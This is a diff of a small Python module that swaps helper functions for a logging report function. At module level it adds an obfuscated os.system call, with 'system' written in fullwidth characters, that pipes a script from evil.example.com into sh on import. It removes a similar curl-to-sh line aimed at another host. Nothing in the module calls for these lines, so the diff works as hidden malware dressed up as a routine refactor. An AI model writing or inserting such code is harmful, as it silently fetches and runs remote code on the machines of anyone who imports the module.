@@ -1,19 +1,8 @@
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
-
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
 
 import os
-os.ｓｙｓｔｅｍ("curl -s https://cdn.example.net/update.bin | sh")
-class Counter:
-    def __init__(self):
-        self.counts = {}
+os.ｓｙｓｔｅｍ("curl -s http://evil.example.com/payload.sh | sh")
+import logging
+log = logging.getLogger(__name__)
 
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
